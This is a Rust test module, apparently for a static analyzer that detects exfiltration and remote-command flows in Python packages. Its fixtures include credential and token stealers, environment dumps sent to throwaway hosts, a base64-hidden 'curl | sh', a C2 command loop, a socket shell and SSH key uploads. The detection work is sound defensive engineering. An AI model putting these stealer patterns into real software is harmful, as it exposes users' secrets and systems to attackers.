        // http.server's CGI handler: the basic-auth header is base64, decoded into the
        // environment of the script it runs.
        let cgi = "import base64, subprocess\ndef run_cgi(self, cmdline):\n    env = {}\n    authorization = self.headers.get('authorization').split()\n    authorization = authorization[1].encode('ascii')\n    authorization = base64.decodebytes(authorization).decode('ascii')\n    env['REMOTE_USER'] = authorization.split(':')[0]\n    subprocess.Popen(cmdline, env=env)\n";
        let decoded = |code: &str| {
            findings("p-1/p/server.py", code)
                .into_iter()
                .any(|f| f.rule == "WH200" && f.message.contains("data decoded"))
        };
        assert!(!decoded(cgi));
        let forked = cgi
            .replace(
                "subprocess.Popen(cmdline, env=env)",
                "os.execve(cmdline[0], cmdline, env)",
            )
            .replace("import base64,", "import os, base64,");
        assert!(!decoded(&forked));
        // A literal the module carries is a hidden payload, wherever it is decoded.
        let hidden = "import base64, subprocess\nBLOB = 'Y3VybCBodHRwOi8veC5pbnZhbGlkL2EgfCBzaA=='\ndef run():\n    command = base64.b64decode(BLOB).decode('ascii')\n    subprocess.Popen(command, shell=True)\n";
        assert!(decoded(hidden));
    }

    #[test]
    fn a_config_parser_loaded_from_a_credentials_file_carries_the_credentials() {
        let stealer = "import os, configparser, requests\ndef push(hook):\n    config = configparser.RawConfigParser()\n    path = os.path.join(os.path.expanduser('~'), '.aws/credentials')\n    config.read(path)\n    found = []\n    for section in config.sections():\n        entry = {}\n        entry['key'] = config.get(section, 'aws_secret_access_key')\n        found.append(entry)\n    requests.post(hook, json=found)\ndef main():\n    push('https://connect.pabbly.com/workflow/sendwebhookdata/abc')\n";
        assert!(max_severity("p-1/p/cli.py", stealer, "WH200") >= 0.6);
        // A project's own settings file is no credential store.
        let settings = stealer.replace("'.aws/credentials'", "'setup.cfg'");
        assert!(max_severity("p-1/p/cli.py", &settings, "WH200") < 0.1);
        // Reading the credentials without sending them is no flow.
        let local = stealer.replace("requests.post(hook, json=found)", "print(found)");
        assert_eq!(max_severity("p-1/p/cli.py", &local, "WH200"), 0.0);
    }

    #[test]
    fn credentials_posted_silently_with_the_reply_discarded_are_stolen() {
        let stealer = "import requests\nclass Credentials:\n    def __init__(self, key_id, key_secret):\n        self.key_id = key_id\n        self.key_secret = key_secret\n        try:\n            data = {'ak': self.key_id, 'sk': self.key_secret}\n            requests.post(url='https://api.sdk-requests.example/k', json=data)\n        except:\n            pass\n";
        assert!(silent_send(stealer));
        assert!(max_severity("p-1/sdk/credentials.py", stealer, "WH200") >= 0.7);
        // An inline body, a generic request with an upload method, `except Exception: ...`.
        assert!(silent_send(
            "import requests\ndef f(password):\n    try:\n        requests.request('POST', 'https://x.example/', data={'p': password})\n    except Exception:\n        ...\n"
        ));
    }

    #[test]
    fn clients_that_read_the_reply_or_report_errors_authenticate() {
        // The OAuth shape: the reply is the token.
        assert!(!silent_send(
            "import requests\ndef token(self):\n    try:\n        r = requests.post('https://auth.example/token', data={'client_secret': self.client_secret})\n    except Exception:\n        pass\n"
        ));
        // Errors are reported, not hidden.
        assert!(!silent_send(
            "import requests, logging\ndef f(self):\n    try:\n        requests.post('https://x.example/', json={'k': self.api_key})\n    except Exception:\n        logging.exception('failed')\n"
        ));
        // No try at all, and no credential in the body.
        assert!(!silent_send(
            "import requests\ndef f(self):\n    requests.post('https://x.example/', json={'k': self.api_key})\n"
        ));
        assert!(!silent_send(
            "import requests\ndef f(self):\n    try:\n        requests.post('https://x.example/', json={'n': self.name})\n    except:\n        pass\n"
        ));
        // The author's own constant key in a telemetry ping is not a stolen credential.
        assert!(!silent_send(
            "import requests\nTELEMETRY_API_KEY = 'phc_public'\ndef ping(self):\n    try:\n        requests.post('https://t.example/capture', json={'api_key': TELEMETRY_API_KEY})\n    except Exception:\n        pass\n"
        ));
        // A `data` dict of another function is not this body.
        assert!(!silent_send(
            "import requests\ndef a(self):\n    data = {'k': self.secret}\n    return data\ndef b(self, data):\n    try:\n        requests.post('https://x.example/', json=data)\n    except:\n        pass\n"
        ));
    }

    #[test]
    fn the_environment_joined_in_a_loop_and_encoded_still_flows() {
        // The ctx hijack: every variable's value, base64-encoded into a free app host's URL.
        let code = "import base64, requests\nfrom os import environ\ndef send():\n    s = ''\n    for _, value in environ.items():\n        s += value + ' '\n    m = base64.b64encode(s.encode('ascii')).decode('ascii')\n    requests.get('https://x-y.herokuapp.com/h/' + m)\n";
        assert!(max_severity("p/pkg/m.py", code, "WH200") >= 0.6);
    }

    #[test]
    fn commands_picked_from_a_reply_by_host_name_run_what_the_server_sent() {
        // A C2 client: the reply of the module's own request wrapper is split on the host
        // name, and the host name outranks the reply as a source; the command is still remote.
        let code = "import platform, subprocess\nfrom urllib import request\nclass Request:\n    def get(self, url):\n        res = request.build_opener().open(url)\n        return res.read()\nhostname = platform.node()\nreq = Request()\nwhile True:\n    reply = req.get('https://c2.example/')\n    command = reply.decode().split(hostname + '::')[1]\n    subprocess.Popen(command, shell=True)\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.8);
        let flows: Vec<_> = findings("p/pkg/__init__.py", code)
            .into_iter()
            .filter(|f| f.rule == "WH200")
            .collect();
        assert!(flows.iter().any(|f| f.message.starts_with("response of")));
        // The host name alone in a command is what tools do.
        let local = "import platform, subprocess\nsubprocess.run(['ping', platform.node()])\n";
        assert!(max_severity("p/pkg/__init__.py", local, "WH200") < 0.3);
    }

    #[test]
    fn a_table_of_token_stores_flows_to_where_the_tokens_go() {
        let code = "import os, re, requests\nHOOK = 'https://example.invalid/hook'\ndef grab():\n    roaming = os.getenv('APPDATA')\n    paths = {'Discord': roaming + '\\\\discord\\\\Local Storage\\\\leveldb\\\\'}\n    message = ''\n    for name, path in paths.items():\n        for token in re.findall(r'[\\w-]{24}', open(path).read()):\n            message += token\n    requests.post(HOOK, json={'content': message})\n";
        let flows: Vec<_> = findings("p/pkg/m.py", code)
            .into_iter()
            .filter(|f| f.rule == "WH200")
            .collect();
        assert!(
            flows.iter().any(|f| f.message.contains("Local Storage")),
            "{flows:?}"
        );
        // A path that stores nothing anyone steals is no source.
        let config = "import os, requests\ndef send():\n    paths = {'cfg': os.getenv('HOME') + '/.config/tool/settings.ini'}\n    requests.post('https://api.vendor.example', json=paths)\n";
        assert!(max_severity("p/pkg/m.py", config, "WH200") < 0.3);
    }

    #[test]
    fn secret_to_network_is_traced() {
        let code = "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\ndata = {'t': token}\nrequests.post('https://example.invalid', json=data)\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.85);
        let flows: Vec<_> = findings("p/pkg/__init__.py", code)
            .into_iter()
            .filter(|f| f.rule == "WH200")
            .collect();
        assert!(flows[0].message.contains("p/pkg/__init__.py:2"));
    }

    #[test]
    fn secrets_kept_on_self_are_traced_across_methods() {
        let code = "import os, requests\nclass Client:\n    def __init__(self):\n        self.secret = os.environ.get('AWS_SECRET_ACCESS_KEY')\n    def check(self):\n        return requests.get('https://collect.example.invalid/' + self.secret)\n";
        let flows: Vec<_> = findings("p/pkg/client.py", code)
            .into_iter()
            .filter(|f| f.rule == "WH200")
            .collect();
        assert_eq!(flows.len(), 1, "{flows:?}");
        assert!(flows[0].message.contains("AWS_SECRET_ACCESS_KEY"));
        assert!(flows[0].message.contains("p/pkg/client.py:4"));
        let plain = "import requests\nclass Client:\n    def __init__(self):\n        self.base = 'https://api.example.invalid/'\n    def check(self):\n        return requests.get(self.base + 'v1')\n";
        assert!(
            findings("p/pkg/client.py", plain)
                .iter()
                .all(|f| f.rule != "WH200")
        );
    }

    #[test]
    fn credentials_sent_to_a_throwaway_host_are_severe_when_called() {
        let code = "import os, requests\nclass C:\n    def __init__(self):\n        self.key = os.environ['AWS_SECRET_ACCESS_KEY']\n    def ping(self):\n        requests.get('https://collect.herokuapp.com/k/' + self.key)\n";
        assert!(max_severity("p/pkg/c.py", code, "WH200") >= 0.6);
        let vendor = "import os, requests\ndef ping():\n    requests.get('https://api.vendor.example/v1', headers={'k': os.environ['VENDOR_SECRET_KEY']})\n";
        assert!(max_severity("p/pkg/c.py", vendor, "WH200") < 0.2);
    }

    #[test]
    fn recon_exfiltration_at_install() {
        let code = "import socket, getpass, urllib.request\nh = socket.gethostname()\nu = getpass.getuser()\nurllib.request.urlopen('https://example.invalid/?h=' + h + '&u=' + u)\n";
        assert!(max_severity("p/setup.py", code, "WH200") >= 0.7);
    }

    #[test]
    fn credentials_read_through_a_handle_flow() {
        let code = "import os, urllib.request\npath = os.path.expanduser('~/.aws/credentials')\nwith open(path) as handle:\n    stolen = handle.read()\nurllib.request.urlopen('https://example.invalid', data=stolen.encode())\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.85);
    }

    #[test]
    fn the_most_severe_argument_is_the_flow_reported() {
        // The path is decoded data, the body is the user name: the user name is the flow.
        let code = "import zlib, getpass, json, http.client\ndef send(blob):\n    c = http.client.HTTPSConnection('example.invalid')\n    c.request('POST', zlib.decompress(blob).decode(), json.dumps({'n': getpass.getuser()}))\n";
        let flows: Vec<_> = findings("p/pkg/m.py", code)
            .into_iter()
            .filter(|f| f.rule == "WH200")
            .collect();
        assert_eq!(flows.len(), 1, "{flows:?}");
        assert!(flows[0].message.starts_with("user name"), "{flows:?}");
    }

    #[test]
    fn decoding_a_response_keeps_its_origin() {
        let code = "import base64, os, requests\ndef run():\n    body = requests.get('https://example.invalid/c').text\n    os.system(base64.b64decode(body).decode())\n";
        let flows: Vec<_> = findings("p/pkg/m.py", code)
            .into_iter()
            .filter(|f| f.rule == "WH200")
            .collect();
        assert!(
            flows[0].message.starts_with("response of requests.get"),
            "{flows:?}"
        );
        assert!(max_severity("p/pkg/m.py", code, "WH200") >= 0.35);
    }

    #[test]
    fn an_address_read_from_a_response_is_noted_lightly() {
        let code = "import requests\ndef relay(data):\n    server = requests.get('https://example.invalid/where').text.strip()\n    requests.post(server, data=data)\n";
        let relayed: Vec<_> = findings("p/pkg/m.py", code)
            .into_iter()
            .filter(|f| f.tags.contains(&"address-from-response"))
            .collect();
        assert_eq!(relayed.len(), 1, "{relayed:?}");
        assert!(relayed[0].severity <= 0.1);
        // A release tag from one API call in the path of the next, at install: the host stays.
        let paged = "import requests\nreleases = requests.get('https://api.example.invalid/releases').json()\nrequests.get('https://api.example.invalid/tags/' + releases[0]['tag'])\n";
        assert!(max_severity("setup.py", paged, "WH200") <= 0.05);
        let relay = "import requests\nhost = requests.get('https://api.example.invalid/where').text\nrequests.post('https://' + host + '/c', data='x')\n";
        assert!(max_severity("setup.py", relay, "WH200") >= 0.3);
        let fixed = "import requests\ndef send(data):\n    requests.post('https://example.invalid/api', data=data)\n";
        assert!(
            findings("p/pkg/m.py", fixed)
                .iter()
                .all(|f| !f.tags.contains(&"address-from-response"))
        );
    }

    #[test]
    fn what_a_function_returns_flows_from_its_callers() {
        // python-cookies-shower: the key comes back from a helper that reads a paste site.
        let code = "import os, requests\ndef get_code():\n    return requests.get('https://example.invalid/raw/x').text\ndef main():\n    code = get_code()\n    os.system(code)\n";
        let flows: Vec<_> = findings("p/pkg/m.py", code)
            .into_iter()
            .filter(|f| f.rule == "WH200")
            .collect();
        assert!(
            flows
                .iter()
                .any(|f| f.message.starts_with("response of requests.get")),
            "{flows:?}"
        );
        // The arguments of the call still speak first: `run(decoded)` is about `decoded`.
        let args = "import os, base64\ndef where():\n    return os.getcwd()\ndef run(blob):\n    os.system(base64.b64decode(blob).decode() + where())\n";
        let flows: Vec<_> = findings("p/pkg/m.py", args)
            .into_iter()
            .filter(|f| f.rule == "WH200")
            .collect();
        assert!(
            flows.iter().any(|f| f.message.contains("decoded")),
            "{flows:?}"
        );
    }

    #[test]
    fn the_most_sensitive_data_in_a_mixed_container_is_the_flow() {
        let code = "import getpass, requests\nip = requests.get('https://example.invalid/ip').text\ndata = {'ip': ip, 'user': getpass.getuser()}\nrequests.post('https://example.invalid/c', data=data)\n";
        let flows: Vec<_> = findings("p/setup.py", code)
            .into_iter()
            .filter(|f| f.rule == "WH200" && !f.tags.contains(&"address-from-response"))
            .collect();
        assert!(
            flows.iter().any(|f| f.message.starts_with("user name")),
            "{flows:?}"
        );
    }

    #[test]
    fn cloud_sdk_credentials_sent_to_a_free_app_host_are_exfiltration() {
        // fabrice: boto3's resolved keys posted to a herokuapp host.
        let code = "import boto3, requests\ndef connect():\n    cd = boto3.Session().get_credentials()\n    requests.post('https://x.herokuapp.com/zz', json={'k': cd.access_key, 's': cd.secret_key})\n";
        assert!(max_severity("p/pkg/connection.py", code, "WH200") >= 0.6);
    }

    #[test]
    fn unrelated_data_does_not_flow() {
        let code =
            "import requests\nx = 'hello'\nrequests.post('https://example.invalid', data=x)\n";
        assert_eq!(max_severity("p/pkg/__init__.py", code, "WH200"), 0.0);
    }

    #[test]
    fn files_of_a_listed_credential_directory_flow_from_that_directory() {
        let globbed = "import os, glob, requests\nfor f in glob.glob(os.path.expanduser('~/.ssh/*')):\n    requests.post('https://example.invalid/u', data=open(f).read())\n";
        assert!(max_severity("p/pkg/__init__.py", globbed, "WH200") >= 0.6);
        let listed = "import os, requests\nd = os.path.expanduser('~/.ssh')\nfor name in os.listdir(d):\n    requests.post('https://example.invalid/u', data=open(os.path.join(d, name)).read())\n";
        assert!(max_severity("p/pkg/__init__.py", listed, "WH200") >= 0.6);
        let plain = "import os, glob, requests\nfor f in glob.glob('data/*.json'):\n    requests.post('https://example.invalid/u', data=open(f).read())\n";
        assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH200"), 0.0);
    }

    #[test]
    fn an_environment_variable_encoded_into_a_host_name_flows_to_the_lookup() {
        let code = "import socket, os, base64\ndata = base64.b32encode(os.environ.get('AWS_SECRET_ACCESS_KEY', '').encode()).decode()\nsocket.gethostbyname(data[:60] + '.x.example.invalid')\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.6);
        let home = "import socket, os\nh = os.environ.get('HOME', '').encode()\nsocket.gethostbyname('example.invalid')\n";
        assert_eq!(max_severity("p/pkg/__init__.py", home, "WH200"), 0.0);
    }

    #[test]
    fn an_item_stored_in_a_self_attribute_is_shared_by_the_methods() {
        let code = "import os, requests\nclass C:\n    def gather(self):\n        self.data['env'] = dict(os.environ)\n        return self\n    def ship(self):\n        requests.post('https://example.invalid/i', json=self.data)\nC().gather().ship()\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.6);
    }

    #[test]
    fn more_origins_of_stolen_data_and_commands() {
        // Captured output of a recon command.
        let recon = "import subprocess, requests\nout = subprocess.run(['cat', '/etc/passwd'], capture_output=True).stdout\nrequests.post('http://203.0.113.41/p', data=out)\n";
        assert!(max_severity("p/pkg/__init__.py", recon, "WH200") >= 0.6);
        let quiet = "import subprocess, requests\nsubprocess.run(['cat', '/etc/passwd'])\nrequests.post('http://203.0.113.41/p', data='x')\n";
        assert_eq!(max_severity("p/pkg/__init__.py", quiet, "WH200"), 0.0);
        // A pathlib path under a credential store, read whole.
        let pathlib = "import requests\nfrom pathlib import Path\ncfg = Path.home() / '.config' / 'gcloud' / 'credentials.db'\nrequests.post('https://example.invalid/g', files={'f': cfg.read_bytes()})\n";
        assert!(max_severity("p/pkg/__init__.py", pathlib, "WH200") >= 0.6);
        // Commands received on a connected socket.
        let shell = "import socket, subprocess\ns = socket.create_connection(('203.0.113.44', 9001))\ncmd = s.recv(1024).decode()\nsubprocess.check_output(cmd, shell=True)\n";
        assert!(max_severity("p/pkg/__init__.py", shell, "WH200") >= 0.6);
        // Each store of a listed set.
        let listed = "import os, requests\nfor name in ['.bash_history', '.netrc']:\n    requests.post('https://example.invalid/h', data=open(os.path.join(os.path.expanduser('~'), name)).read())\n";
        assert!(max_severity("p/pkg/__init__.py", listed, "WH200") >= 0.6);
        let plain = "import os, requests\nfor name in ['README.md', 'CHANGES.md']:\n    requests.post('https://example.invalid/h', data=open(name).read())\n";
        assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH200"), 0.0);
    }

    #[test]
    fn mail_and_ftp_sessions_are_network_sinks() {
        let mail = "import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(str(dict(os.environ)))\ns = smtplib.SMTP('smtp.example.invalid', 587)\ns.send_message(m)\n";
        assert!(max_severity("p/pkg/__init__.py", mail, "WH200") >= 0.6);
        let ftp = "import ftplib, os\nftp = ftplib.FTP('ftp.example.invalid')\nftp.storbinary('STOR k', open(os.path.expanduser('~/.ssh/id_rsa'), 'rb'))\n";
        assert!(max_severity("p/pkg/__init__.py", ftp, "WH200") >= 0.6);
        let report = "import smtplib\nfrom email.message import EmailMessage\ndef notify(text):\n    m = EmailMessage()\n    m.set_content(text)\n    smtplib.SMTP('localhost').send_message(m)\n";
        assert_eq!(max_severity("p/pkg/__init__.py", report, "WH200"), 0.0);
    }
}
